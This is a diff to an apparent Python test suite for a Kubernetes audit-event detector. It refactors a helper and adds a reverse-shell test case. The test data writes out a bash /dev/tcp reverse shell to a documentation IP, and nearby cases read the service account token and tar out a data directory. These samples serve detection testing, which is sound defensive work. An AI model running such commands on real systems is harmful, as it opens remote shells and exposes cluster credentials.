@@ -6,10 +6,9 @@ from __future__ import annotations
 import os
 from datetime import timedelta
 from typing import Any
-from urllib.parse import quote
 
 import pytest
-from test_rules_helpers import T0, binding, ev, frame, iam, pod, role, workload
+from test_rules_helpers import T0, binding, ev, exec_ev, frame, iam, pod, role, workload
 
 from detector.rules import evaluate_rules, load_ruleset
 from detector.rules.iplists import IP_LISTS_ENV
@@ -600,23 +599,6 @@ for _rid, (_verb, _res, _code) in ACTIVITY.items():
     )
 
 
-def exec_ev(command: list[str], *, verb: str = "create", user: Any = "alice", **kw: Any) -> dict:
-    query = "&".join(f"command={quote(c, safe='')}" for c in command)
-    uri = f"/api/v1/namespaces/shop/pods/p/exec?{query}&container=app&stdin=true"
-    return ev(
-        verb,
-        "pods",
-        ns="shop",
-        name="p",
-        sub="exec",
-        code=101,
-        uri=uri,
-        user=user,
-        stage="ResponseStarted",
-        **kw,
-    )
-
-
 def csr(user: Any = "alice", sub: str | None = None, verb: str = "create") -> dict:
     return ev(
         verb,
@@ -709,6 +691,11 @@ CASES.update(
             [exec_ev(["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], verb="get")],
             [exec_ev(["cat", "/app/config.yaml"])],
             "an exec reading an application file",
+        ),
+        "exec-reverse-shell": (
+            [exec_ev(["sh", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"])],
+            [exec_ev(["sh", "-c", "echo > /dev/tcp/127.0.0.1/5432 && echo open"])],
+            "a port check against the pod itself",
         ),
         "pod-copy-out": (
             [exec_ev(["tar", "cf", "-", "/var/lib/data"])],
